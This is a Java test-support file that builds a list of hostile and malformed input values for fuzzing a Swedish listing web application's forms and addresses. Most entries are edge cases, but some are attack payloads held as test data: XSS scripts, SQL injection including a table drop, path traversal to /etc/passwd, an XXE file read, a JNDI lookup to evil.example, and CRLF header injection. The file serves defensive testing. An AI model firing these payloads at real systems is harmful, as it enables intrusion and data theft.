package se.samnytta.house;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.Nullable;

/**
 * What somebody types who means ill, or whose keyboard does.
 *
 * @param name    what it is
 * @param text    as typed; null when no text is meant, but broken encoding
 * @param encoded as it is sent in a form or an address
 */
record HostileValue(String name, @Nullable String text, String encoded) {

  private static final String SCRIPT = "'\"--></textarea></script><x-evil onmouseover=alert(1) style=x>"
      + "<script>alert(1)</script><img src=x onerror=alert(1)>";

  static HostileValue of(String name, String text) {
    return new HostileValue(name, text, URLEncoder.encode(text, StandardCharsets.UTF_8));
  }

  /** Not what the words mean, but what stands in the way of reading them. */
  static List<HostileValue> all() {
    List<HostileValue> all = new ArrayList<>();
    TEXTS.forEach((name, text) -> all.add(of(name, text)));
    BROKEN.forEach((name, encoded) -> all.add(new HostileValue(name, null, encoded)));
    return List.copyOf(all);
  }

  /** Those that differ even where one chooses, or has been asked before. */
  static List<HostileValue> few() {
    return all().stream().filter(each -> FEW.contains(each.name)).toList();
  }

  private static final Set<String> FEW = Set.of("nothing", "long", "NUL", "script", "negative", "beyond a long", "UUID", "no UTF-8");

  private static final Map<String, String> TEXTS = Map.ofEntries(
      Map.entry("nothing", ""),
      Map.entry("blank", " \t \u00a0 "),
      Map.entry("long", "a".repeat(10_000)),
      Map.entry("long words", "åäö ".repeat(2_500)),
      Map.entry("NUL", "a\0b"),
      Map.entry("controls", "a\u0001\u0007\u0008\u001b[31mb\u007f"),
      Map.entry("C1 controls", "a\u0080\u0085\u009f"),
      Map.entry("line ends", "rad ett\r\nX-Evil: 1\r\n\r\n<x-evil>"),
      Map.entry("line separators", "a\u2028b\u2029c"),
      Map.entry("no character", "a\uFFFE\uFFFF"),
      Map.entry("private use", "a\uE000\uF8FF"),
      Map.entry("script", SCRIPT),
      Map.entry("script address", "javascript:alert(1)//"),
      Map.entry("other host", "//evil.example/%2e%2e"),
      Map.entry("SQL", "'; drop table listing.listing; --"),
      Map.entry("SQL or", "1' or '1'='1' union select null -- "),
      Map.entry("SQL wildcards", "%_\\%__"),
      Map.entry("path", "../../../../etc/passwd"),
      Map.entry("template", "${7*7}{{7*7}}#{7*7}<%= 7*7 %>@if(true)!{1}{0}''{"),
      Map.entry("formats", "%s%n%d%99999999s"),
      Map.entry("look-up", "${jndi:ldap://evil.example/a}"),
      Map.entry("JSON", "{\"a\":[1,2,{\"b\":null}]}"),
      Map.entry("XML", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
      Map.entry("entities", "&lt;script&gt;&#0;&#x1;&amp;"),
      Map.entry("emoji", "👩‍🚒🪑🇸🇪"),
      Map.entry("as many emoji as fit in 100", "🪑".repeat(90)),
      Map.entry("as many emoji as fit in 200", "🪑".repeat(180)),
      Map.entry("as many emoji as fit in 300", "🪑".repeat(280)),
      Map.entry("as many emoji as fit in 1000", "🪑".repeat(900)),
      Map.entry("as many emoji as fit in 4000", "🪑".repeat(2_500)),
      Map.entry("from right to left", "\u202Egnp.exe\u202C\u2066a\u2069\u200F"),
      Map.entry("invisible", "\u200B\u200D\uFEFF\u00AD"),
      Map.entry("stacked", "Z" + "\u0310\u0311\u0312".repeat(60)),
      Map.entry("negative", "-1"),
      Map.entry("zero", "0"),
      Map.entry("minus nothing", "-0"),
      Map.entry("fraction", "1,5"),
      Map.entry("beyond an int", "2147483648"),
      Map.entry("beyond a long", "9223372036854775808"),
      Map.entry("largest long", "9223372036854775807"),
      Map.entry("huge", "9".repeat(400)),
      Map.entry("power", "1e309"),
      Map.entry("no number", "NaN"),
      Map.entry("other digits", "٣٤"),
      Map.entry("hexadecimal", "0x10"),
      Map.entry("with spaces", "999 999 999 999"),
      Map.entry("long fraction", "999999999999,999999"),
      Map.entry("wrong unit", "12 famnar"),
      Map.entry("light years", "999999999999 m"),
      Map.entry("day that was", "2020-01-01"),
      Map.entry("last of all days", "9999-12-31"),
      Map.entry("no day", "0000-00-00"),
      Map.entry("the 31st of February", "31 februari"),
      Map.entry("UUID", "00000000-0000-0000-0000-000000000000"),
      Map.entry("word for nothing", "null"));

  private static final Map<String, String> BROKEN = Map.of(
      "lone surrogate", "a%ED%A0%80",
      "no UTF-8", "%FF%FE%C0%AF",
      "cut UTF-8", "a%C3",
      "overlong", "%C0%80",
      "no hexadecimal", "%zz",
      "cut percent", "a%4");
}
